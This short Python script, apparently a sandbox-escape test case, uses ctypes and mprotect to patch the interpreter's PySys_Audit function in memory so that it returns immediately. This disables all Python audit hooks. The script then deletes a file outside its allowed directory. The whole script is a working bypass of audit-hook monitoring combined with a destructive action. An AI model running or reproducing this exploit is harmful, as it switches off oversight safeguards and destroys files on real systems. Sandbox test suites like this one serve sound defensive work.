# The interpreter's function that asks the hooks is made to return at once.
# damage: deleted
# needs: linux, x86_64, ctypes
import ctypes
import os

address = ctypes.cast(ctypes.pythonapi.PySys_Audit, ctypes.c_void_p).value
ctypes.CDLL(None).mprotect(ctypes.c_void_p(address & ~4095), 8192, 7)
ctypes.memmove(address, b"\x31\xc0\xc3", 3)
os.unlink("../outside/victim.txt")
